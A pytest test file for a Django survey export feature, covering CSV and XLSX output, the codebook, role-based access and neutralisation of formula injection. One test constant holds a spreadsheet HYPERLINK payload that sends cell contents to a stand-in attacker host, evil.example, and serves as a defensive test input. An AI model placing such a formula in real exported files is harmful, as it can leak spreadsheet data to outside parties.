"""The edition data export: long and wide, CSV (ZIP) and XLSX, codebook, scope and cost."""

import csv
import datetime as dt
import io
import secrets
import zipfile

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from surveys.analysis import exports
from surveys.models import Answer, Question, Response
from surveys.respondent.services import response_submit
from tests.factories import MembershipFactory, MunicipalityFactory, UserFactory
from tests.surveys.conftest import save_posted

URL = "/direktoratet/undersokelser/2026/eksport/"
HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Klikk")'

# What each organisation answers: form data for answers_save (A has no key figures, so it
# "does not settle" and is shown first_time_help; district_only is for city districts only).
FORM = {
    "4204": {
        "q-expected_settled": "12",
        "q-expected_settled-explanation": "Vedtak i juni",
        "q-has_plan": "yes",
        "q-plan_year": "2020",
        "q-first_time_help": HYPERLINK,
        "q-unit": "other",
        "q-unit-other": "Kulturenheten",
        "q-measures": ["language", "work"],
        "q-priorities-1": "work",
        "q-priorities-2": "housing",
        "q-target": "70,5",
        "q-satisfaction": "not_relevant",
        "q-channels-email": "4",
        "q-channels-meetings": "not_relevant",
        "q-contact_name": "Kari Nordmann",
        "q-advice": "-mer penger\n+bedre dialog",
    },
    "4601": {
        "q-expected_settled-dk": "1",
        "q-has_plan": "no",
        "q-first_time_help": "Bolig",
        "q-unit": "nav",
        "q-measures": ["dont_know"],
        "q-priorities-1": "school",
        "q-priorities-2": "work",
        "q-target": "40",
        "q-satisfaction": "5",
        "q-channels-email": "1",
        "q-channels-meetings": "2",
        "q-contact_name": "Ola",
        "q-advice": "Mer dialog",
    },
}
KEYS = {
    "4204": [
        "expected_settled",
        "has_plan",
        "plan_year",
        "first_time_help",
        "unit",
        "measures",
        "priorities",
        "target",
        "satisfaction",
        "channels",
        "contact_name",
        "advice",
    ],
    "4601": [
        "expected_settled",
        "has_plan",
        "first_time_help",
        "unit",
        "measures",
        "priorities",
        "target",
        "satisfaction",
        "channels",
        "contact_name",
        "advice",
    ],
}

# (question_key, item, rank, value, value_label, other_text, explanation): as written to a file,
# text that looks like a formula neutralised.
LONG = {
    "4204": [
        ("expected_settled", None, None, 12, "12 personer", None, "Vedtak i juni"),
        ("has_plan", None, None, "yes", "Ja", None, None),
        ("plan_year", None, None, 2020, "2020", None, None),
        ("first_time_help", None, None, "'" + HYPERLINK, None, None, None),
        ("unit", None, None, "other", "Annen, beskriv", "Kulturenheten", None),
        ("measures", None, None, "language", "Språk", None, None),
        ("measures", None, None, "work", "Arbeid", None, None),
        ("priorities", None, 1, "work", "Arbeid", None, None),
        ("priorities", None, 2, "housing", "Bolig", None, None),
        ("target", None, None, 70.5, "70,5 %", None, None),
        ("satisfaction", None, None, "not_relevant", "Ikke relevant", None, None),
        ("channels", "email", None, 4, "4", None, None),
        ("channels", "meetings", None, "not_relevant", "Ikke relevant", None, None),
        ("contact_name", None, None, "Kari Nordmann", None, None, None),
        ("advice", None, None, "'-mer penger\n+bedre dialog", None, None, None),
    ],
    "4601": [
        ("expected_settled", None, None, "dont_know", "Vet ikke", None, None),
        ("has_plan", None, None, "no", "Nei", None, None),
        ("first_time_help", None, None, "Bolig", None, None, None),
        ("unit", None, None, "nav", "NAV", None, None),
        ("measures", None, None, "dont_know", "Vet ikke", None, None),
        ("priorities", None, 1, "school", "Skole", None, None),
        ("priorities", None, 2, "work", "Arbeid", None, None),
        ("target", None, None, 40, "40 %", None, None),
        ("satisfaction", None, None, 5, "Svært fornøyd", None, None),
        ("channels", "email", None, 1, "1", None, None),
        ("channels", "meetings", None, 2, "2", None, None),
        ("contact_name", None, None, "Ola", None, None, None),
        ("advice", None, None, "Mer dialog", None, None, None),
    ],
}

WIDE = {
    "4204": {
        "expected_settled": 12,
        "expected_settled__explanation": "Vedtak i juni",
        "has_plan": "yes",
        "plan_year": 2020,
        "first_time_help": "'" + HYPERLINK,
        "district_only": None,
        "unit": "other",
        "unit__other_text": "Kulturenheten",
        "measures__language": 1,
        "measures__work": 1,
        "measures__housing": 0,
        "measures__dont_know": 0,
        "priorities__1": "work",
        "priorities__2": "housing",
        "target": 70.5,
        "satisfaction": "not_relevant",
        "channels__email": 4,
        "channels__meetings": "not_relevant",
        "contact_name": "Kari Nordmann",
        "advice": "'-mer penger\n+bedre dialog",
    },
    "4601": {
        "expected_settled": "dont_know",
        "expected_settled__explanation": None,
        "has_plan": "no",
        "plan_year": None,
        "first_time_help": "Bolig",
        "district_only": None,
        "unit": "nav",
        "unit__other_text": None,
        "measures__language": 0,
        "measures__work": 0,
        "measures__housing": 0,
        "measures__dont_know": 1,
        "priorities__1": "school",
        "priorities__2": "work",
        "target": 40,
        "satisfaction": 5,
        "channels__email": 1,
        "channels__meetings": 2,
        "contact_name": "Ola",
        "advice": "Mer dialog",
    },
}
WIDE_QUESTION_COLUMNS = list(WIDE["4204"])
LEADING = {
    "4204": {
        "year": 2026,
        "municipality_name": "Kristiansand",
        "kind": "municipality",
        "county_number": "42",
        "region": "sor",
        "response_status": "submitted",
    },
    "4601": {
        "year": 2026,
        "municipality_name": "Bergen",
        "kind": "municipality",
        "county_number": "46",
        "region": "vest",
        "response_status": "submitted",
    },
}


def _answer_and_submit(edition, municipality, editor, signatory):
    number = municipality.number
    result = save_posted(
        actor=editor,
        edition=edition,
        municipality=municipality,
        data=FORM[number],
        keys=KEYS[number],
    )
    assert result.ok, (result.errors, result.refused)
    assert sorted(result.saved) == sorted(KEYS[number])
    response = Response.objects.get(edition=edition, municipality=municipality)
    return response_submit(
        actor=signatory, response=response, on_behalf_of="Rådmann", confirmed=True
    )


@pytest.fixture
def answered(cast, edition):
    """A and B have submitted answers to every question type."""
    signatory_b = MembershipFactory(
        user=UserFactory(username="signatory_b"), municipality=cast.b, role="signatory"
    ).user
    _answer_and_submit(edition, cast.a, cast.editor_a, cast.signatory_a)
    _answer_and_submit(edition, cast.b, cast.editor_b, signatory_b)
    return edition


# --- Reading files back ------------------------------------------------------------------------


def _export(edition, fmt, shape, user=None, **options):
    out = io.BytesIO()
    source = exports.export_source(edition, user=user, **options)
    exports.write_export(source, fmt=fmt, shape=shape, out=out)
    return out.getvalue()


def expect(value, fmt):
    """A value as it reads back: XLSX keeps numbers and empty cells, CSV cells are text."""
    if fmt == "xlsx":
        return value
    return "" if value is None else str(value)


def read_csv_zip(content):
    """{member: (header, rows)}; checks BOM, separator and line ends on the way."""
    tables = {}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert sorted(archive.namelist()) == ["codebook.csv", "data.csv"]
        for name in archive.namelist():
            raw = archive.read(name)
            assert raw.startswith(b"\xef\xbb\xbf"), name
            assert raw.endswith(b"\r\n")
            text = raw.decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=","))
            tables[name.removesuffix(".csv")] = (
                rows[0],
                rows[1:],
            )
    return tables


def read_xlsx(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["data", "codebook"]
    tables = {}
    for name in workbook.sheetnames:
        rows = [list(r) for r in workbook[name].iter_rows(values_only=True)]
        tables[name] = (rows[0], rows[1:])
    return tables


def read(content, fmt):
    return read_csv_zip(content) if fmt == "csv" else read_xlsx(content)


def as_dicts(table):
    header, rows = table
    return [dict(zip(header, row, strict=True)) for row in rows]


# --- Round trips -------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_long_round_trip(answered, cast, fmt):
    data = as_dicts(read(_export(answered, fmt, "long", user=cast.admin), fmt)["data"])
    assert list(data[0]) == exports.LONG_COLUMNS
    for number in ("4204", "4601"):
        rows = [r for r in data if r["municipality_number"] == number]
        got = [
            (
                r["question_key"],
                r["item"],
                r["rank"],
                r["value"],
                r["value_label"],
                r["other_text"],
                r["explanation"],
            )
            for r in rows
        ]
        assert got == [tuple(expect(v, fmt) for v in e) for e in LONG[number]]
        for row in rows:
            for column, value in LEADING[number].items():
                assert row[column] == expect(value, fmt), column
            assert row["submitted_at"].startswith("2")
            assert row["section_key"] in ("settlement", "services")
        types = {r["question_key"]: r["question_type"] for r in rows}
        assert types["channels"] == "scale_grid" and types["priorities"] == "rank"
    # Numbers are numbers (in XLSX: cells of number type), not texts.
    if fmt == "xlsx":
        a = [r for r in data if r["municipality_number"] == "4204"]
        assert isinstance(next(r["value"] for r in a if r["question_key"] == "target"), float)
        assert type(next(r["value"] for r in a if r["question_key"] == "plan_year")) is int


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_wide_round_trip(answered, cast, fmt):
    tables = read(_export(answered, fmt, "wide", user=cast.admin), fmt)
    header, _rows = tables["data"]
    assert header == exports.LEADING_COLUMNS + WIDE_QUESTION_COLUMNS
    data = {r["municipality_number"]: r for r in as_dicts(tables["data"])}
    assert sorted(data) == ["4204", "4601"]
    for number, expected in WIDE.items():
        row = data[number]
        for column, value in {**LEADING[number], **expected}.items():
            assert row[column] == expect(value, fmt), (number, column)
            assert type(row[column]) is type(expect(value, fmt)), (number, column)


def test_long_and_wide_hold_every_stored_value(answered, cast):
    """Nothing stored is left out: every answer's value can be found in both shapes."""
    wide = {
        r["municipality_number"]: r
        for r in as_dicts(read_xlsx(_export(answered, "xlsx", "wide", user=cast.admin))["data"])
    }
    long = as_dicts(read_xlsx(_export(answered, "xlsx", "long", user=cast.admin))["data"])
    stored = Answer.objects.filter(response__edition=answered).select_related(
        "question", "municipality"
    )
    assert stored.count() == len(KEYS["4204"]) + len(KEYS["4601"])
    for answer in stored:
        number, key, value = answer.municipality.number, answer.question.key, answer.value
        in_long = [
            r for r in long if r["municipality_number"] == number and r["question_key"] == key
        ]
        row = wide[number]
        if answer.question.type == "multi" and value != "dont_know":
            assert [r["value"] for r in in_long] == value
            assert all(row[f"{key}__{option}"] == 1 for option in value)
        elif answer.question.type == "multi":
            assert row[f"{key}__dont_know"] == 1
        elif answer.question.type == "rank":
            assert [(r["rank"], r["value"]) for r in in_long] == list(enumerate(value, start=1))
            assert [row[f"{key}__{i}"] for i in range(1, len(value) + 1)] == value
        elif answer.question.type == "scale_grid":
            assert {r["item"]: r["value"] for r in in_long} == value
            assert {item: row[f"{key}__{item}"] for item in value} == value
        else:
            assert [r["value"] for r in in_long] == [exports.neutralise(value)]
            assert row[key] == exports.neutralise(value)
        if answer.other_text:
            assert row[f"{key}__other_text"] == answer.other_text


# --- Codebook ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_codebook_covers_every_wide_column(answered, cast, fmt):
    tables = read(_export(answered, fmt, "wide", user=cast.admin), fmt)
    header, _rows = tables["data"]
    codebook = as_dicts(tables["codebook"])
    assert tables["codebook"][0] == exports.CODEBOOK_COLUMNS
    assert [r["column"] for r in codebook] == header
    by_column = {r["column"]: r for r in codebook}
    assert all(by_column[c]["question"] for c in header)  # every column is described
    satisfaction = by_column["satisfaction"]
    assert satisfaction["question"] == "Hvor fornøyd er dere?"
    assert satisfaction["section"] == "services" and satisfaction["type"] == "scale"
    assert satisfaction["values"] == (
        "1=Svært misfornøyd; 2; 3; 4; 5=Svært fornøyd; not_relevant=Ikke relevant"
    )
    assert (satisfaction["min"], satisfaction["max"]) == (expect(1, fmt), expect(5, fmt))
    expected_settled = by_column["expected_settled"]
    assert expected_settled["unit"] == "personer"
    assert (expected_settled["min"], expected_settled["max"]) == (expect(0, fmt), expect(5000, fmt))
    assert expected_settled["values"] == "dont_know=Vet ikke"
    assert by_column["has_plan"]["values"] == "yes=Ja; no=Nei; dont_know=Vet ikke"
    assert by_column["unit"]["values"] == (
        "none=Ingen; nav=NAV; refugee_office=Flyktningkontor; other=Annen, beskriv"
    )
    assert by_column["measures__work"]["part"] == "Arbeid"
    assert by_column["measures__work"]["values"] == "0=Ikke valgt; 1=Valgt"
    assert by_column["measures__dont_know"]["part"] == "Vet ikke"
    assert by_column["priorities__2"]["values"] == "housing=Bolig; work=Arbeid; school=Skole"
    assert by_column["channels__meetings"]["part"] == "Møter"
    assert by_column["channels__meetings"]["values"].endswith("not_relevant=Ikke relevant")
    assert by_column["unit__other_text"]["question_key"] == "unit"
    assert by_column["expected_settled__explanation"]["question_key"] == "expected_settled"
    # Routing, the question's own and its section's, as text.
    assert by_column["plan_year"]["routing"] == "Spørsmålet vises når: has_plan i [yes]"
    assert (
        "bosettingskategori i [first_time, does_not_settle]"
        in (by_column["first_time_help"]["routing"])
    )
    assert by_column["district_only"]["routing"] == (
        "Spørsmålet vises når: kommunetype i [district]"
    )
    assert by_column["unit"]["routing"] == expect(None, fmt)
    assert by_column["kind"]["values"] == "municipality=Kommune; district=Bydel"
    assert "sor=IMDi Sør" in by_column["region"]["values"]


def test_section_routing_in_codebook(db, cast):
    from surveys.editions.services import edition_import
    from tests.surveys.conftest import definition

    doc = definition()
    doc["sections"][1]["show_if"] = {
        "kind": ["municipality"],
        "answers": [{"question": "has_plan", "not_in": ["no"]}],
    }
    edition = edition_import(actor=None, content=doc)
    rows = {r[0]: r for r in exports.codebook_rows(exports.export_source(edition))}
    routing = rows["advice"][exports.CODEBOOK_COLUMNS.index("routing")]
    assert routing == "Delen vises når: kommunetype i [municipality] og has_plan ikke i [no]"


def test_explanation_column_only_when_some_answer_has_one(answered, cast):
    # B's answers have no explanation: adviser_other sees B only.
    header = exports.wide_header(exports.export_source(answered, user=cast.adviser_other))
    assert "expected_settled__explanation" not in header
    assert "unit__other_text" in header  # an "other" option always has its column
    header = exports.wide_header(exports.export_source(answered, user=cast.admin))
    assert "expected_settled__explanation" in header


# --- What is included --------------------------------------------------------------------------


def test_unsubmitted_responses_are_left_out_unless_asked_for(answered, cast):
    c = MunicipalityFactory(
        number="4205", name="Lindesnes", county=cast.a.county, region=cast.a.region
    )
    d = MunicipalityFactory(
        number="4206", name="Farsund", county=cast.a.county, region=cast.a.region
    )
    question = Question.objects.get(edition=answered, key="has_plan")
    for org, status in ((c, Response.Status.IN_PROGRESS), (d, Response.Status.RETURNED)):
        response = Response.objects.create(edition=answered, municipality=org, status=status)
        Answer.objects.create(response=response, municipality=org, question=question, value="yes")

    def numbers(**options):
        data = read_xlsx(_export(answered, "xlsx", "wide", user=cast.admin, **options))["data"]
        return [r["municipality_number"] for r in as_dicts(data)]

    assert numbers() == ["4204", "4601"]
    assert numbers(include_unsubmitted=True) == ["4204", "4205", "4206", "4601"]
    rows = as_dicts(read_xlsx(_export(answered, "xlsx", "long", include_unsubmitted=True))["data"])
    statuses = {r["municipality_number"]: r["response_status"] for r in rows}
    assert statuses["4205"] == "in_progress" and statuses["4206"] == "returned"
    assert next(r for r in rows if r["municipality_number"] == "4205")["submitted_at"] is None


def test_organisations_not_valid_when_the_edition_opened_are_left_out(answered, cast):
    cast.b.valid_to = dt.date(2026, 1, 1)  # merged away before the edition opened
    cast.b.save()
    rows = as_dicts(read_xlsx(_export(answered, "xlsx", "wide", user=cast.admin))["data"])
    assert [r["municipality_number"] for r in rows] == ["4204"]


def test_region_option(answered, cast):
    rows = as_dicts(read_xlsx(_export(answered, "xlsx", "wide", region=cast.b.region))["data"])
    assert [r["municipality_number"] for r in rows] == ["4601"]


# --- The download ------------------------------------------------------------------------------


def _download(client, user, **params):
    client.force_login(user)
    response = client.get(URL, params)
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return response, content


@pytest.mark.parametrize(
    ("who", "present", "absent"),
    [("adviser_a", "4204", "4601"), ("adviser_other", "4601", "4204")],
)
def test_regional_adviser_gets_their_region_only(client, answered, cast, who, present, absent):
    response, content = _download(client, getattr(cast, who), format="csv", shape="long")
    assert response.status_code == 200
    region = "sor" if who == "adviser_a" else "vest"
    assert f"kommuneundersokelsen-2026-long-{region}.zip" in response["Content-Disposition"]
    assert response["Content-Type"] == "application/zip"
    numbers = {r["municipality_number"] for r in as_dicts(read_csv_zip(content)["data"])}
    assert numbers == {present}
    assert absent not in numbers


def test_csv_download_streams_as_it_is_read(client, answered, cast, monkeypatch):
    """The CSV ZIP goes out in pieces while the answers are still being read: the first piece
    is sent before the last row is read, and every row read is in the file."""
    read_rows = []
    long_rows = exports.long_rows

    def many(source):  # the real rows, then enough rows of random text to fill several pieces
        rows = list(long_rows(source))
        for n in range(3000):
            row = list(rows[n % len(rows)])
            row[-1] = secrets.token_hex(40)
            rows.append(row)
        for row in rows:
            read_rows.append(row)
            yield row

    monkeypatch.setattr(exports, "long_rows", many)
    client.force_login(cast.admin)
    response = client.get(URL, {"format": "csv", "shape": "long"})
    assert response.status_code == 200
    assert response.streaming
    assert not response.has_header("Content-Length")
    assert 'filename="kommuneundersokelsen-2026-long.zip"' in response["Content-Disposition"]
    assert response["Cache-Control"] == "private, no-store"
    pieces = iter(response.streaming_content)
    first = next(pieces)
    assert first.startswith(b"PK")
    read_when_first_sent = len(read_rows)
    content = first + b"".join(pieces)
    assert 0 < read_when_first_sent < len(read_rows) == 3000 + 28
    _header, rows = read_csv_zip(content)["data"]
    assert [row[-1] for row in rows] == [expect(row[-1], "csv") for row in read_rows]


def test_csv_download_is_the_file_the_writer_makes(client, answered, cast):
    _response, content = _download(client, cast.admin, format="csv", shape="long")
    assert read_csv_zip(content) == read_csv_zip(_export(answered, "csv", "long"))


def test_csv_stream_counts_its_rows_only_at_the_end(answered):
    stream = exports.CsvZipStream(exports.export_source(answered), "wide")
    with pytest.raises(RuntimeError):
        _ = stream.rows
    content = b"".join(stream)
    assert stream.rows == 2
    assert len(read_csv_zip(content)["data"][1]) == 2


def test_admin_gets_everything_as_xlsx_wide_by_default(client, answered, cast):
    response, content = _download(client, cast.admin)
    assert response.status_code == 200
    assert response["Content-Type"] == exports.CONTENT_TYPES["xlsx"]
    assert 'filename="kommuneundersokelsen-2026-wide.xlsx"' in response["Content-Disposition"]
    rows = as_dicts(read_xlsx(content)["data"])
    assert [r["municipality_number"] for r in rows] == ["4204", "4601"]


@pytest.mark.parametrize("who", ["editor_a", "viewer_a", "signatory_a", "editor_b", "officer"])
def test_others_are_refused(client, answered, cast, who):
    response, _content = _download(client, getattr(cast, who))
    assert response.status_code == 403


def test_anonymous_is_sent_to_log_in(client, answered):
    response = client.get(URL)
    assert response.status_code == 302
    assert response["Location"].startswith("/konto/login/")


def test_unknown_edition_is_404(client, cast, edition):
    client.force_login(cast.admin)
    assert client.get("/direktoratet/undersokelser/1999/eksport/").status_code == 404


@pytest.mark.parametrize(
    ("params", "named"),
    [
        ({"format": "pdf"}, ["pdf", "csv", "xlsx"]),
        ({"shape": "tall"}, ["tall", "long", "wide"]),
        ({"format": "csv", "shape": ""}, ["long", "wide"]),
    ],
)
def test_bad_format_or_shape_is_400(client, answered, cast, params, named):
    """The message (in the user's language) names the bad value and the ones allowed."""
    response, content = _download(client, cast.admin, **params)
    assert response.status_code == 400
    assert all(word in content.decode() for word in named)


def test_post_is_refused(client, answered, cast):
    client.force_login(cast.admin)
    assert client.post(URL).status_code == 405


# --- Formula injection -------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise(text):
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Bolig", "", None, -5, 3.5, 0])
def test_neutralise_leaves_the_rest_alone(value):
    assert exports.neutralise(value) == value


@pytest.mark.parametrize("fmt", exports.FORMATS)
@pytest.mark.parametrize("shape", exports.SHAPES)
def test_formula_comes_out_as_text(answered, cast, fmt, shape):
    cells = [
        cell
        for row in read(_export(answered, fmt, shape, user=cast.admin), fmt)["data"][1]
        for cell in row
    ]
    assert "'" + HYPERLINK in cells
    assert HYPERLINK not in cells
    if fmt == "xlsx":
        content = _export(answered, fmt, shape, user=cast.admin)
        sheet = openpyxl.load_workbook(io.BytesIO(content))["data"]
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_control_characters_do_not_break_the_workbook(answered, cast):
    Answer.objects.filter(question__key="contact_name", municipality=cast.b).update(
        value="Ola\x0bNordmann"
    )
    rows = as_dicts(read_xlsx(_export(answered, "xlsx", "wide", user=cast.admin))["data"])
    assert rows[1]["contact_name"] == "OlaNordmann"


@pytest.mark.parametrize("fmt", exports.FORMATS)
@pytest.mark.parametrize("shape", exports.SHAPES)
def test_texts_that_look_like_formulas_stay_text_and_numbers_stay_numbers(
    answered, cast, fmt, shape
):
    """Spaces or a line break before the formula do not get it through; a negative number
    answered as a number is still a number, the same characters typed as text are text."""
    texts = {"contact_name": " =1+1", "advice": "\n@SUM(A1)", "first_time_help": "-5"}
    for key, value in texts.items():
        Answer.objects.filter(question__key=key, municipality=cast.b).update(value=value)
    Answer.objects.filter(question__key="expected_settled", municipality=cast.a).update(value=-5)
    content = _export(answered, fmt, shape, user=cast.admin)
    rows = as_dicts(read(content, fmt)["data"])
    b_rows = [r for r in rows if r["municipality_number"] == cast.b.number]
    a_rows = [r for r in rows if r["municipality_number"] == cast.a.number]
    if shape == "wide":
        got = {key: b_rows[0][key] for key in texts}
        settled = a_rows[0]["expected_settled"]
    else:
        got = {r["question_key"]: r["value"] for r in b_rows if r["question_key"] in texts}
        settled = next(r["value"] for r in a_rows if r["question_key"] == "expected_settled")
    assert got == {key: "'" + value for key, value in texts.items()}
    assert settled == expect(-5, fmt)
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content))["data"]
        types = {c.value: c.data_type for row in sheet.iter_rows() for c in row}
        assert all(types["'" + value] == "s" for value in texts.values())
        assert types[-5] == "n"
        assert "f" not in types.values()


# --- The management command --------------------------------------------------------------------


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_command_writes_a_file(answered, tmp_path, fmt):
    out = tmp_path / f"export.{exports.EXTENSIONS[fmt]}"
    call_command("export_responses", "2026", "--format", fmt, "--shape", "long", "--out", str(out))
    rows = as_dicts(read(out.read_bytes(), fmt)["data"])
    assert {r["municipality_number"] for r in rows} == {"4204", "4601"}
    assert len(rows) == len(LONG["4204"]) + len(LONG["4601"])
    assert not list(tmp_path.glob("*.part"))


def test_command_region_and_unsubmitted(answered, cast, tmp_path):
    out = tmp_path / "vest.xlsx"
    call_command("export_responses", "2026", "--region", "vest", "--out", str(out))
    rows = as_dicts(read_xlsx(out.read_bytes())["data"])
    assert [r["municipality_number"] for r in rows] == ["4601"]
    Response.objects.filter(municipality=cast.b).update(status=Response.Status.RETURNED)
    call_command("export_responses", "2026", "--region", "vest", "--out", str(out))
    assert as_dicts(read_xlsx(out.read_bytes())["data"]) == []
    call_command(
        "export_responses", "2026", "--region", "vest", "--include-unsubmitted", "--out", str(out)
    )
    assert len(as_dicts(read_xlsx(out.read_bytes())["data"])) == 1


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["1999"], "There is no 1999 edition"),
        (["2026", "--region", "atlantis"], "There is no region 'atlantis'"),
    ],
)
def test_command_errors(answered, tmp_path, args, message):
    out = tmp_path / "x.xlsx"
    with pytest.raises(CommandError, match=message):
        call_command("export_responses", *args, "--out", str(out))
    assert not out.exists()


def test_command_refuses_a_bad_format(answered, tmp_path):
    with pytest.raises(CommandError):
        call_command("export_responses", "2026", "--format", "pdf", "--out", str(tmp_path / "x"))


# --- Cost --------------------------------------------------------------------------------------


def _organisations_with_answers(edition, cast, count, start=0):
    """``count`` organisations in A's region with approved answers to every question type."""
    questions = {q.key: q for q in Question.objects.filter(edition=edition)}
    values = {
        "expected_settled": 10,
        "has_plan": "yes",
        "plan_year": 2019,
        "first_time_help": "=1+1",
        "unit": "other",
        "measures": ["language", "housing"],
        "priorities": ["school", "work"],
        "target": 55.5,
        "satisfaction": 3,
        "channels": {"email": 2, "meetings": "not_relevant"},
        "contact_name": "Navn",
        "advice": "Råd",
    }
    for i in range(start, start + count):
        org = MunicipalityFactory(number=f"{5000 + i}", county=cast.a.county, region=cast.a.region)
        response = Response.objects.create(
            edition=edition, municipality=org, status=Response.Status.APPROVED
        )
        Answer.objects.bulk_create(
            Answer(
                response=response,
                municipality=org,
                question=questions[key],
                value=value,
                other_text="Annet" if key == "unit" else "",
                explanation="Sjekket" if key == "expected_settled" and i % 2 else "",
            )
            for key, value in values.items()
        )


ROWS_PER_ORGANISATION = {"wide": 1, "long": 15}  # long: 2 multi, 2 rank, 2 grid rows


def _queries(edition, user, fmt, shape, organisations):
    user = type(user).objects.get(pk=user.pk)  # nothing cached on the user object
    with CaptureQueriesContext(connection) as captured:
        content = _export(edition, fmt, shape, user=user)
    rows = as_dicts(read(content, fmt)["data"])
    assert len(rows) == organisations * ROWS_PER_ORGANISATION[shape]
    return len(captured.captured_queries)


@pytest.mark.parametrize("fmt", exports.FORMATS)
@pytest.mark.parametrize("shape", exports.SHAPES)
@pytest.mark.parametrize("who", ["admin", "adviser_a"])
def test_query_count_does_not_grow_with_organisations(edition, cast, fmt, shape, who):
    user = getattr(cast, who)
    _organisations_with_answers(edition, cast, 3)
    few = _queries(edition, user, fmt, shape, 3)
    _organisations_with_answers(edition, cast, 27, start=3)
    many = _queries(edition, user, fmt, shape, 30)
    assert few == many
    # questions, explanations, responses, answers, regions (+ an adviser's memberships)
    assert many == (5 if who == "admin" else 6)


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_progress_is_reported_every_so_many_rows(edition, cast, fmt, monkeypatch):
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 10)
    _organisations_with_answers(edition, cast, 3)
    seen = []
    count = exports.write_export(
        exports.export_source(edition),
        fmt=fmt,
        shape="long",
        out=io.BytesIO(),
        progress=seen.append,
    )
    assert count == 45
    assert seen == [10, 20, 30, 40]
